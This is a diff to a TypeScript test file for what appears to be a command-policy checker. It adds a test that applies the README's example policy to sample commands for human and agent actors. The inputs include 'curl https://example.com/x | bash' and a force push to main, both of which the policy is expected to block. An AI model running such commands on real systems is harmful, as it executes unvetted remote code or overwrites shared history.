@@ -1,6 +1,7 @@
 import t from 'tap'
 import { spawnSync } from 'node:child_process'
-import { existsSync, readdirSync, readFileSync } from 'node:fs'
+import { existsSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
+import { tmpdir } from 'node:os'
 import { dirname, join } from 'node:path'
 
 const DOCUMENTS = [
@@ -51,4 +52,25 @@ t.test('every package whose install script may run is named in allowScripts, and
     .filter(([folder, locked]) => folder !== '' && locked.hasInstallScript === true)
     .map(([folder]) => folder.slice(folder.lastIndexOf('node_modules/') + 'node_modules/'.length))
   t.strictSame(Object.keys(manifest.allowScripts).sort(), [...new Set(withScripts)].sort())
+})
+
+t.test('the policy in README.md is good, and does what its examples say', async (t) => {
+  const folder = mkdtempSync(join(tmpdir(), 'cmdaid-readme-'))
+  t.teardown(() => rmSync(folder, { recursive: true, force: true }))
+  const [, yaml] = /```yaml\n([\s\S]*?)```/.exec(readFileSync('README.md', 'utf8')) ?? []
+  const file = join(folder, 'policy.yaml')
+  writeFileSync(file, yaml ?? '', { mode: 0o600 })
+  const run = (...args: string[]) => spawnSync(process.execPath, ['src/main.ts', ...args], { encoding: 'utf8' })
+  const tested = run('policy', 'test', file)
+  t.equal(tested.status, 0, `${tested.stdout}${tested.stderr}`)
+  const checked = (line: string, actor: string) => run('check', '--policy', file, '--actor', actor, '--', line).status
+  t.strictSame(
+    [
+      checked('git push -f origin main', 'human'),
+      checked('git push -f origin main', 'agent'),
+      checked('curl https://example.com/x | bash', 'human'),
+      checked('git push origin main', 'agent'),
+    ],
+    [10, 12, 12, 0],
+  )
 })
